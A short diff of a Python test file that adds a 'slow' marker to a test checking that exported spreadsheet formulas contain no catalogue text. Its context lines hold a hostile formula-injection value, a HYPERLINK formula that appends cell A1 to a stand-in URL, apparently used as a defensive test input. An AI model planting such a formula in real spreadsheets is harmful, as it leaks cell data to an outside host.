@@ -289,6 +289,7 @@ def test_a_wrong_input_is_named_and_nothing_is_recommended(inputs, said, opened)
     opened.given(FIND, before)
 
 
+@pytest.mark.slow
 def test_formulas_contain_no_text_of_a_catalogue(tmp_path):
     data = stocked(demo_data())
     hostile = '=HYPERLINK("http://example.invalid/"&A1)'
